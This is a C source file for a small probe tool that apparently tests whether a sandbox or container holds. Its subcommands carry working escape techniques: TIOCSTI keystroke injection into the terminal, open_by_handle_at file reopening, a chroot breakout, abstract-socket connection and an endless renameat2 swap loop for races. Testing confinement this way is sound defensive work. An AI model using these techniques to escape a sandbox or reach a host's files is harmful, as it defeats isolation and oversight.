// Reaches for the host by means that no shell has.
//
//   probe abstract NAME         a socket in the abstract namespace
//   probe inject                types into the terminal on its standard streams (TIOCSTI)
//   probe encode PATH           the handle of a file
//   probe decode HANDLE MOUNT   opens a file by its handle, on the filesystem that MOUNT is of, and prints it
//   probe chroot PATH           walks out of a root, and prints the file
//   probe uid                   prints whose rights it has
//   probe swap A B              has two names change places for ever
#define _GNU_SOURCE
#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

static int print(int file)
{
    char text[4096];
    ssize_t length = read(file, text, sizeof text);
    return length < 0 || write(1, text, length) != length;
}

static int abstract(const char *name)
{
    struct sockaddr_un address = { AF_UNIX, "" };
    strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
    int file = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(file, (void *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)))
        return 1;
    return print(file);
}

static int inject(void)
{
    int done = 0;
    for (int file = 0; file < 3; file++)
        for (const char *c = "#injected\n"; *c; c++)
            done += ioctl(file, TIOCSTI, c) == 0;
    int terminal = open("/dev/tty", O_RDWR);
    for (const char *c = "#injected\n"; *c; c++)
        done += ioctl(terminal, TIOCSTI, c) == 0;
    printf(done ? "OUT\n" : "refused\n");
    return !done;
}

static int encode(const char *path)
{
    struct file_handle *handle = calloc(1, sizeof *handle + MAX_HANDLE_SZ);
    int mount;
    handle->handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, path, handle, &mount, 0))
        return 1;
    printf("%d:", handle->handle_type);
    for (unsigned i = 0; i < handle->handle_bytes; i++)
        printf("%02x", handle->f_handle[i]);
    return 0;
}

static int decode(const char *text, const char *mount)
{
    struct file_handle *handle = calloc(1, sizeof *handle + MAX_HANDLE_SZ);
    handle->handle_type = atoi(text);
    for (const char *at = strchr(text, ':') + 1; at[0] && at[1]; at += 2)
        sscanf(at, "%2hhx", &handle->f_handle[handle->handle_bytes++]);
    int file = open_by_handle_at(open(mount, O_RDONLY), handle, O_RDONLY);
    return file < 0 || print(file);
}

static int out_of_root(const char *path)
{
    mkdir("/deeper", 0700);
    if (chroot("/deeper"))
        return 1;
    for (int i = 0; i < 64; i++)
        if (chdir(".."))
            return 1;
    if (chroot("."))
        return 1;
    return print(open(path, O_RDONLY));
}

static void swap(const char *a, const char *b)
{
    close(creat("/swapping", 0644));
    for (;;)
        renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "";
    if (!strcmp(what, "abstract"))
        return abstract(argv[2]);
    if (!strcmp(what, "inject"))
        return inject();
    if (!strcmp(what, "encode"))
        return encode(argv[2]);
    if (!strcmp(what, "decode"))
        return decode(argv[2], argv[3]);
    if (!strcmp(what, "chroot"))
        return out_of_root(argv[2]);
    if (!strcmp(what, "swap"))
        swap(argv[2], argv[3]);
    if (!strcmp(what, "uid"))
        return printf("%d\n", geteuid()) < 0;
    return 2;
}
